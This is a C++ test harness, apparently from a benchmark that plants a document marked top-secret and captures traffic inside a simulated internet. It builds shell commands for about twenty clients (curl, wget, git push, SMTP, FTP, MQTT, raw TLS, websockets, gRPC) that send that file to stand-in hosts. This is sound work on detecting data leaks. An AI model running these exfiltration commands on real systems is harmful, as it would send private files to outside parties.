// SPDX-License-Identifier: Apache-2.0
#include "client_runs.h"

#include "base/clock.h"
#include "base/error.h"
#include "base/file.h"
#include "base/json.h"
#include "base/process.h"
#include "document/generate.h"
#include "near_capture.h"
#include "run/evidence.h"
#include "run/folder.h"
#include "scenario/record.h"
#include "world.h"

namespace candor::bench {

namespace {

namespace fs = std::filesystem;

constexpr std::uint64_t kSeed = 20250101;

std::string python(const std::string& program) { return "/usr/bin/python3 - <<'END'\n" + program + "END\n"; }

std::string curl(const Surroundings& at, const std::string& words) {
  return "curl -sS -m 30 --cacert " + at.ca + " " + words;
}

std::string websocket(const Surroundings& at) {
  return python(
      "import asyncio, ssl, websockets\n"
      "async def main():\n"
      "  context = ssl.create_default_context(cafile='" +
      at.ca +
      "')\n"
      "  async with websockets.connect('wss://up.example/socket', ssl=context) as socket:\n"
      "    await socket.send(open('" +
      at.document +
      "').read())\n"
      "    await (await socket.ping())\n"
      "asyncio.run(main())\n");
}

std::string grpc(const Surroundings& at) {
  return python(
      "import grpc\n"
      "trust = grpc.ssl_channel_credentials(open('" +
      at.ca +
      "', 'rb').read())\n"
      "with grpc.secure_channel('grpc.example:443', trust) as channel:\n"
      "  channel.unary_unary('/vendor.Samples/Submit', request_serializer=lambda x: x,\n"
      "    response_deserializer=lambda x: x)(open('" +
      at.document + "', 'rb').read(), timeout=20)\n");
}

std::string stun(const Surroundings&) {
  return python(
      "import asyncio, aioice\n"
      "async def main():\n"
      "  one = aioice.Connection(ice_controlling=True, use_ipv6=False, stun_server=('stun.example', 3478))\n"
      "  await one.gather_candidates()\n"
      "  await one.close()\n"
      "asyncio.run(main())\n");
}

std::string git(const Surroundings& at) {
  return "git init -q -b main " + at.folder + "/git && cd " + at.folder + "/git && cp " + at.document +
         " . && git add . && git -c user.name=a -c user.email=a@b.example commit -q -m all && "
         "GIT_SSL_CAINFO=" +
         at.ca + " git push -q https://git.example/alex/project.git main";
}

std::string mail(const Surroundings& at) {
  return "(printf 'From: a@a.example\\r\\nTo: b@b.example\\r\\n\\r\\n'; cat " + at.document + ") > " +
         at.folder + "/mail && " +
         curl(at, "--ssl-reqd -u user:pass --mail-from a@a.example --mail-rcpt b@b.example -T " + at.folder +
                      "/mail smtp://mail.example:587");
}

}  // namespace

const std::vector<Client>& clients() {
  using At = const Surroundings&;
  static const std::vector<Client> kClients = {
      {"curl, HTTP/1.1", [](At at) { return curl(at, "-T " + at.document + " http://up.example/memo"); }},
      {"curl, HTTPS",
       [](At at) { return curl(at, "--http1.1 -T " + at.document + " https://up.example/memo"); }},
      {"curl, HTTP/2",
       [](At at) { return curl(at, "--http2 -T " + at.document + " https://up.example/memo"); }},
      {"wget",
       [](At at) {
         return "wget -q -O - --ca-certificate=" + at.ca + " --post-file=" + at.document +
                " https://up.example/post";
       }},
      {"nghttp",
       [](At at) {
         return "SSL_CERT_FILE=" + at.ca + " nghttp -n -d " + at.document + " https://up.example/a";
       }},
      {"websockets", websocket},
      {"gRPC", grpc},
      {"git push", git},
      {"curl, SOCKS",
       [](At at) {
         return curl(at,
                     "--socks5-hostname proxy.example:1080 -T " + at.document + " http://up.example/memo");
       }},
      {"curl, SMTP", mail},
      {"curl, FTP",
       [](At at) { return curl(at, "-u user:pass -T " + at.document + " ftp://files.example/in/"); }},
      {"lftp",
       [](At at) {
         return "HOME=" + at.folder + " timeout 40 lftp -e 'set ssl:ca-file " + at.ca +
                "; set net:max-retries 1; open -u user,pass ftp://files.example; put " + at.document +
                "; bye'";
       }},
      {"mosquitto_pub",
       [](At at) { return "timeout 20 mosquitto_pub -h broker.example -t plans -f " + at.document; }},
      {"openssl s_client",
       [](At at) {
         return "(cat " + at.document +
                "; sleep 1) | timeout 20 openssl s_client -connect 203.0.113.7:9443 -quiet"
                " -servername raw.example -CAfile " +
                at.ca + " >/dev/null 2>&1 || true";
       }},
      {"dig", [](At) { return std::string("dig +tries=1 +time=5 @9.9.9.9 vendor.example TXT"); }},
      {"kdig, DNS over TLS",
       [](At at) {
         return "kdig +retry=0 +time=5 @9.9.9.9 +tls-ca=" + at.ca +
                " +tls-hostname=dns.example vendor.example A";
       }},
      {"chrony",
       [](At) {
         return std::string(
             "timeout 60 chronyd -Q -t 40 -u root -f /dev/null 'server time.example iburst maxsamples 1'");
       }},
      {"STUN (aioice)", stun},
      {"ssh",
       [](At) {
         return std::string(
             "timeout 20 ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
             " user@files.example true || true");
       }},
  };
  return kClients;
}

void run_client(const Client& client, const fs::path& folder) {
  const run::FolderPaths paths{folder};
  fs::create_directories(paths.documents());
  model::Scenario scenario;
  scenario.documents["memo"] = {
      .id = "memo", .format = "txt", .marking = "us/top-secret", .folder = "/home/alex"};
  model::Manifest manifest;
  std::string document;
  for (document::Planted& planted : document::generate(scenario.documents, Seed(kSeed))) {
    planted.document.file = "documents/" + planted.document.name;
    planted.document.text_file = "documents/" + planted.document.id + ".text";
    document = (folder / planted.document.file).string();
    write_file(document, planted.content);
    write_file(folder / planted.document.text_file, planted.text);
    manifest.documents.push_back(planted.document);
  }
  write_file(paths.scenario(), pretty_json(scenario::to_json(scenario)));
  write_file(paths.manifest(), pretty_json(model::to_json(manifest)));
  run::RunRecord record;
  record.info.id = client.name;
  record.info.started_wall_ns = wall_ns();
  record.required_probes = {"internet"};
  run::write_record(paths, record);

  NearCapture capture("eth0", paths.frames());
  internet_e2e::Lab lab;
  fs::create_directories(folder / "client");
  const Surroundings at{.document = document, .ca = lab.ca(), .folder = (folder / "client").string()};
  must_run({.name = client.name,
            .argv = {"bash", "-c", client.command(at)},
            .env = {{"https_proxy", ""}, {"http_proxy", ""}}},
           {}, std::chrono::seconds(120));
  if (!lab.finish()) throw Error("the simulated internet did not finish in good order");
  capture.stop();
  for (const char* name : {"events.sqlite", "streams"})
    fs::copy(lab.folder() / name, folder / name, fs::copy_options::recursive);
}

}  // namespace candor::bench
